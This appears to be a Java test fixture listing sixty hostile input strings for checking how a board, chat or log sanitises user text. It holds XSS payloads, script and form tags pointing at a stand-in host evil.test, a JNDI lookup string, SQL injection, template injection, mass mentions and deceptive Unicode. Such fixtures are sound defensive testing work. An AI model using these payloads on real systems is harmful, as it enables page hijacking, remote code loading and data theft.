package dev.signalbox.testkit;

import java.util.List;

/**
 * What people and agents could write to make a page, a chat or a log do something. Whatever runs
 * sets {@code window.__hit}; whatever loads asks evil.test.
 */
public final class HostileStrings {

  /** Sixty of them. Some hold characters that the board refuses to store. */
  public static final List<String> ALL = List.of(
      // elements that run
      "<script>window.__hit=1</script>",
      "<script src=https://evil.test/x.js></script>",
      "<ScRiPt>window.__hit=1</sCrIpT>",
      "<img src=x onerror=window.__hit=1>",
      "<img src=\"https://evil.test/pixel.png\">",
      "<svg onload=window.__hit=1>",
      "<svg><script>window.__hit=1</script></svg>",
      "<svg><animate onbegin=window.__hit=1 attributeName=x dur=1s>",
      "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='window.__hit=1'/>#x\"/></svg>",
      "<iframe src=javascript:parent.__hit=1></iframe>",
      "<iframe srcdoc=\"<script>parent.__hit=1</script>\"></iframe>",
      "<body onload=window.__hit=1>",
      "<input autofocus onfocus=window.__hit=1>",
      "<details open ontoggle=window.__hit=1>",
      "<video><source onerror=window.__hit=1></video>",
      "<audio src=x onerror=window.__hit=1>",
      "<marquee onstart=window.__hit=1>",
      "<object data=javascript:window.__hit=1></object>",
      "<embed src=javascript:window.__hit=1>",
      "<dialog open>hello</dialog>",
      // elements that change the page
      "<a href=javascript:window.__hit=1 id=clickme>x</a>",
      "<form action=https://evil.test><button>x</button></form>",
      "<base href=https://evil.test/>",
      "<meta http-equiv=refresh content=\"0;url=https://evil.test\">",
      "<link rel=stylesheet href=https://evil.test/x.css>",
      "<style>*{display:none}</style>",
      "<math><mtext><table><mglyph><style><img src=x onerror=window.__hit=1>",
      "<template><script>window.__hit=1</script></template>",
      "<x-element data-action=\"sb:1:accept:T-1:e1\">x</x-element>",
      // ways out of where it stands
      "</article></main></body><script>window.__hit=1</script>",
      "</title><script>window.__hit=1</script>",
      "</template></dialog><script>window.__hit=1</script>",
      "</textarea><script>window.__hit=1</script>",
      "\"><script>window.__hit=1</script>",
      "' onmouseover='window.__hit=1",
      "\" autofocus onfocus=\"window.__hit=1",
      "`onload=window.__hit=1",
      "<!-- --><script>window.__hit=1</script>",
      "<![CDATA[<script>window.__hit=1</script>]]>",
      "&lt;script&gt;window.__hit=1&lt;/script&gt;",
      "&#60;img src=x onerror=window.__hit=1&#62;",
      "\\u003Cimg src=x onerror=window.__hit=1\\u003E \\x3Cscript\\x3E",
      "+ADw-script+AD4-window.__hit=1+ADw-/script+AD4-",
      // templates, links, markdown
      "{{constructor.constructor('window.__hit=1')()}} ${window.__hit=1} #{7*7}",
      "${jndi:ldap://evil.test/x} %s %n {0} {agent}",
      "javascript:window.__hit=1",
      "[bank](javascript:window.__hit=1) ![x](https://evil.test/pixel.png)",
      "<https://evil.test|https://bank.test>",
      "**bold** _it_ ~~no~~ `code` > quote # head\n- list\n1. one",
      // mentions and commands
      "<!channel> <!here> <@U123> <!subteam^S1>",
      "@everyone @here <@&1> <@1> <#2> @priya",
      "sb:1:accept:T-1:e1 /signalbox cancel T-1 reason:x",
      "'; DROP TABLE task; --",
      // text that is shown in odd ways
      "\u202Eevil\u202C \u2066x",
      "\u200B\u200D\uFEFFzero\u200Bwidth\u200B",
      "\u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627 (abc) 123",
      "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032Fa"
          + "\u0360\u034C\u036E",
      "W".repeat(118),
      "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66".repeat(10),
      "<x-\u0000script>window.__hit=1</script>");

  private HostileStrings() {}
}
